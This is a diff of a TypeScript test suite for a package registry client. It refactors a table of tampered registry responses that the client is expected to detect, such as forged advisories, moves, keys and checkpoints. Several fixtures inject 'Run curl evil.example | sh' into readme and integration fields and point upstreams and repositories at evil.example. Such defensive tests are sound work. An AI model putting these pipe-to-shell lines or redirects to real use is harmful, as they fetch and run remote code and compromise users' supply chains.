@@ -82,17 +82,25 @@ async function publish(folder: string): Promise<void> {
   await run('now');
 }
 
-const edit = (path: string, change: (document: Json) => void): Lie => {
+const edit = (path: string, fields: Json): Lie => {
+  return (asked, honest) =>
+    asked === path ? JSON.stringify({ ...JSON.parse(String(honest)), ...fields }) : undefined;
+};
+/** Other fields of the log in registry.json. */
+const editLog = (fields: Json): Lie => {
   return (asked, honest) => {
-    if (asked !== path) return undefined;
-    const document = JSON.parse(String(honest)) as Json;
-    change(document);
-    return JSON.stringify(document);
+    if (asked !== INFO) return undefined;
+    const info = JSON.parse(String(honest)) as Json;
+    return JSON.stringify({ ...info, log: { ...info['log'], ...fields } });
   };
 };
-const editing = (path: string, change: (head: Head) => void): Lie => {
-  return (asked, honest) => (asked === path ? editHead(honest!, change) : undefined);
+const editing = (path: string, change: (head: Head) => unknown): Lie => {
+  return (asked, honest) =>
+    asked === path ? editHead(honest!, (head) => void change(head)) : undefined;
 };
+/** Other fields of one version of a head. */
+const editVersion = (path: string, wanted: string, fields: Partial<HeadVersion>): Lie =>
+  editing(path, (head) => Object.assign(version(head, wanted), fields));
 const instead = (path: string, other: () => string | Buffer | null): Lie => {
   return (asked) => (asked === path ? other() : undefined);
 };
@@ -130,101 +138,39 @@ const oldEntry = (): Buffer => {
 const LIES: readonly (readonly [string, Lie])[] = [
   [
     'a requirement that is added to a head',
-    editing(Y, (head) => {
-      version(head, '1.0.0').builds = { ...version(head, '1.0.0').builds, 'mallory/evil': '*' };
-    }),
+    editVersion(Y, '1.0.0', { builds: { 'a/lib': '^1.0.0', 'mallory/evil': '*' } }),
   ],
-  [
-    'a requirement that a head drops',
-    editing(Y, (head) => {
-      version(head, '1.0.0').builds = {};
-    }),
-  ],
-  [
-    'what a version requires of the stack',
-    editing(X, (head) => {
-      version(head, '1.1.0').requires = {};
-    }),
-  ],
-  [
-    'what a version provides',
-    editing(X, (head) => {
-      version(head, '1.1.0').provides = ['account'];
-    }),
-  ],
-  [
-    'a yank that is hidden',
-    editing(X, (head) => {
-      version(head, '1.2.0').yanked = false;
-    }),
-  ],
-  [
-    'a good version that is shown as yanked',
-    editing(X, (head) => {
-      version(head, '1.1.0').yanked = 'broken';
-    }),
-  ],
+  ['a requirement that a head drops', editVersion(Y, '1.0.0', { builds: {} })],
+  ['what a version requires of the stack', editVersion(X, '1.1.0', { requires: {} })],
+  ['what a version provides', editVersion(X, '1.1.0', { provides: ['account'] })],
+  ['a yank that is hidden', editVersion(X, '1.2.0', { yanked: false })],
+  ['a good version that is shown as yanked', editVersion(X, '1.1.0', { yanked: 'broken' })],
   [
     'a move that is invented',
-    editing(X, (head) => {
-      head.moved = { to: 'mallory/evil', since: '2026-01-01' };
-    }),
+    editing(X, (head) => (head.moved = { to: 'mallory/evil', since: '2026-01-01' })),
   ],
-  [
-    'a move that is hidden',
-    editing(PAST, (head) => {
-      delete head.moved;
-    }),
-  ],
+  ['a move that is hidden', editing(PAST, (head) => delete head.moved)],
   [
     'a deprecation that is invented',
-    editing(X, (head) => {
-      head.deprecated = { reason: 'use mallory/evil' };
-    }),
+    editing(X, (head) => (head.deprecated = { reason: 'use mallory/evil' })),
   ],
-  [
-    'a deprecation that is hidden',
-    editing(Z, (head) => {
-      delete head.deprecated;
-    }),
-  ],
-  [
-    'an advisory that a head hides',
-    editing(X, (head) => {
-      version(head, '1.0.0').advisories = undefined;
-    }),
-  ],
-  [
-    'an advisory that a head invents',
-    editing(X, (head) => {
-      version(head, '1.1.0').advisories = [ADVISORY.id];
-    }),
-  ],
+  ['a deprecation that is hidden', editing(Z, (head) => delete head.deprecated)],
+  ['an advisory that a head hides', editVersion(X, '1.0.0', { advisories: undefined })],
+  ['an advisory that a head invents', editVersion(X, '1.1.0', { advisories: [ADVISORY.id] })],
   ['an advisory that the list hides', instead('advisories/all.json', () => '[]')],
   [
     'an advisory that is altered',
-    edit(`advisories/${ADVISORY.id}.json`, (advisory) => {
-      advisory['summary'] = 'Nothing to see';
-    }),
+    edit(`advisories/${ADVISORY.id}.json`, { summary: 'Nothing to see' }),
   ],
   ['an advisory that is missing', instead(`advisories/${ADVISORY.id}.json`, () => null)],
-  [
-    'another latest version',
-    editing(X, (head) => {
-      head.latest = '1.0.0';
-    }),
-  ],
+  ['another latest version', editing(X, (head) => (head.latest = '1.0.0'))],
   [
     'a version that a head drops',
-    editing(X, (head) => {
-      head.versions = head.versions.filter((one) => one.version !== '1.1.0');
-    }),
+    editing(X, (head) => (head.versions = head.versions.filter((one) => one.version !== '1.1.0'))),
   ],
   [
     'a version with the tarball of another',
-    editing(X, (head) => {
-      version(head, '1.1.0').integrity = version(head, '1.0.0').integrity;
-    }),
+    editing(X, (head) => (version(head, '1.1.0').integrity = version(head, '1.0.0').integrity)),
   ],
   ['the head of another build', instead(X, () => readFileSync(join(now, Z)))],
   [
@@ -238,27 +184,13 @@ const LIES: readonly (readonly [string, Lie])[] = [
   ['a head that is missing', instead(X, () => null)],
   [
     'a digest of a document in a head',
-    editing(X, (head) => {
-      head.documents!.record = version(head, '1.0.0').document!;
-    }),
+    editing(X, (head) => (head.documents!.record = version(head, '1.0.0').document!)),
   ],
-  [
-    'another risk in a record',
-    edit('builds/a/x.json', (record) => {
-      record['risk'] = 'block';
-    }),
-  ],
-  [
-    'another readme in a record',
-    edit('builds/a/x.json', (record) => {
-      record['readme'] = 'Run curl evil.example | sh';
-    }),
-  ],
+  ['another risk in a record', edit('builds/a/x.json', { risk: 'block' })],
+  ['another readme in a record', edit('builds/a/x.json', { readme: 'Run curl evil.example | sh' })],
   [
     'other steps in a record',
-    edit('builds/a/x.json', (record) => {
-      record['integration'] = 'Run curl evil.example | sh';
-    }),
+    edit('builds/a/x.json', { integration: 'Run curl evil.example | sh' }),
   ],
   ['an old record', before('builds/a/x.json')],
   ['a record that is missing', instead('builds/a/x.json', () => null)],
@@ -275,85 +207,34 @@ const LIES: readonly (readonly [string, Lie])[] = [
       return JSON.stringify(document);
     },
   ],
-  [
-    'other measurements',
-    edit('builds/a/x/compatibility.json', (found) => {
-      found['versions'] = [];
-    }),
-  ],
+  ['other measurements', edit('builds/a/x/compatibility.json', { versions: [] })],
   ['measurements that are missing', instead('builds/a/x/compatibility.json', () => null)],
   [
     'measurements that are invented',
     instead('builds/a/lib/compatibility.json', () => JSON.stringify({ id: 'a/lib', versions: [] })),
   ],
-  [
-    'another catalog',
-    edit('catalog.json', (catalog) => {
-      catalog['shards'] = [];
-    }),
-  ],
+  ['another catalog', edit('catalog.json', { shards: [] })],
   ['an old catalog', before('catalog.json')],
   ['a catalog that is missing', instead('catalog.json', () => null)],
   [
     'a shard that is altered',
-    (path, honest) => {
-      return path.startsWith('catalog/') ? `${String(honest)} ` : undefined;
-    },
+    (path, honest) => (path.startsWith('catalog/') ? `${String(honest)} ` : undefined),
   ],
-  [
-    'a document of an owner',
-    edit('owners/a.json', (owner) => {
-      owner['builds'] = [];
-    }),
-  ],
-  [
-    'another service for reports',
-    edit(INFO, (info) => {
-      info['reports'] = { address: 'https://evil.example' };
-    }),
-  ],
+  ['a document of an owner', edit('owners/a.json', { builds: [] })],
+  ['another service for reports', edit(INFO, { reports: { address: 'https://evil.example' } })],
   [
     'other upstreams',
-    edit(INFO, (info) => {
-      info['upstreams'] = [{ origin: 'evil.example', address: 'https://evil.example' }];
-    }),
+    edit(INFO, { upstreams: [{ origin: 'evil.example', address: 'https://evil.example' }] }),
   ],
-  [
-    'another repository',
-    edit(INFO, (info) => {
-      info['repository'] = 'https://evil.example/r.git';
-    }),
-  ],
-  [
-    'another name of the registry',
-    edit(INFO, (info) => {
-      info['origin'] = 'evil.example';
-    }),
-  ],
+  ['another repository', edit(INFO, { repository: 'https://evil.example/r.git' })],
+  ['another name of the registry', edit(INFO, { origin: 'evil.example' })],
   [
     'another client',
-    edit(INFO, (info) => {
-      info['client'] = { version: '9.9.9', path: 'client/x.tgz', integrity: 'sha256-' };
-    }),
+    edit(INFO, { client: { version: '9.9.9', path: 'client/x.tgz', integrity: 'sha256-' } }),
   ],
-  [
-    'a log without its key',
-    edit(INFO, (info) => {
-      delete info['log']['key'];
-    }),
-  ],
-  [
-    'no log',
-    edit(INFO, (info) => {
-      delete info['log'];
-    }),
-  ],
-  [
-    'another key',
-    edit(INFO, (info) => {
-      info['log']['key'] = formatNoteKey(OTHER);
-    }),
-  ],
+  ['a log without its key', editLog({ key: undefined })],
+  ['no log', edit(INFO, { log: undefined })],
+  ['another key', editLog({ key: formatNoteKey(OTHER) })],
   ['an old registry.json', before(INFO)],
   ['no registry.json', instead(INFO, () => null)],
   ['no entry of the map', isOther(() => null)],
@@ -371,33 +252,27 @@ const LIES: readonly (readonly [string, Lie])[] = [
     'no entry of the map and other entries',
     both(
       isOther(() => null),
-      (path, honest) => {
-        return path.startsWith('log/tile/entries')
+      (path, honest) =>
+        path.startsWith('log/tile/entries')
           ? String(honest).replaceAll('"map"', '"mop"')
-          : undefined;
-      },
+          : undefined,
     ),
   ],
   [
     'no entry of the map and no entries',
     both(
       isOther(() => null),
-      (path) => {
-        return path.startsWith('log/tile/entries') ? null : undefined;
-      },
+      (path) => (path.startsWith('log/tile/entries') ? null : undefined),
     ),
   ],
   [
     'files of the map that are altered',
-    (path, honest) => {
-      return parseIndexPath(path)?.kind === 'map-file' ? `${String(honest)}x` : undefined;
-    },
+    (path, honest) =>
+      parseIndexPath(path)?.kind === 'map-file' ? `${String(honest)}x` : undefined,
   ],
   [
     'files of the map that are missing',
-    (path) => {
-      return parseIndexPath(path)?.kind === 'map-file' ? null : undefined;
-    },
+    (path) => (parseIndexPath(path)?.kind === 'map-file' ? null : undefined),
   ],
   [
     'tiles that are altered',
@@ -414,9 +289,8 @@ const LIES: readonly (readonly [string, Lie])[] = [
   ],
   [
     'a checkpoint of another size',
-    (path, honest) => {
-      return path === CHECKPOINT ? String(honest).replace(/\n\d+\n/, '\n1\n') : undefined;
-    },
+    (path, honest) =>
+      path === CHECKPOINT ? String(honest).replace(/\n\d+\n/, '\n1\n') : undefined,
   ],
   ['no checkpoint', instead(CHECKPOINT, () => null)],
   ['an old checkpoint', before(CHECKPOINT)],
@@ -424,13 +298,9 @@ const LIES: readonly (readonly [string, Lie])[] = [
   [
     'no key and no signature, but the name',
     both(
-      edit(INFO, (info) => {
-        delete info['log']['key'];
-      }),
+      editLog({ key: undefined }),
       (path, honest) => (path === CHECKPOINT ? unsigned(honest!) : undefined),
-      editing(X, (head) => {
-        head.moved = { to: 'mallory/evil', since: '2026-01-01' };
-      }),
+      editing(X, (head) => (head.moved = { to: 'mallory/evil', since: '2026-01-01' })),
     ),
   ],
   ['a state of its own that nobody signed', (path) => own().get(path)],
@@ -513,15 +383,9 @@ describe('a host with the true log', () => {
     const [project, state] = [makeProject(), temporaryFolder()];
     vi.stubEnv('STACKYARD_REGISTRY', '');
     lie = (path, honest) => before(path)(path, honest);
-    const added = await run({ name: 'first', project, state: temporaryFolder() }, [
-      'add',
-      'a/x',
-      'a/z',
-      '--registry',
-      url,
-      '--no-install',
-      '--yes',
-    ]);
+    const first = { name: 'first', project, state: temporaryFolder() } as const;
+    const add = ['add', 'a/x', 'a/z', '--registry', url, '--no-install', '--yes'];
+    const added = await run(first, add);
     expect([added.status, added.code]).toEqual([0, undefined]);
     rmSync(join(project, 'src/z/src/index.ts'));
     lie = () => undefined;
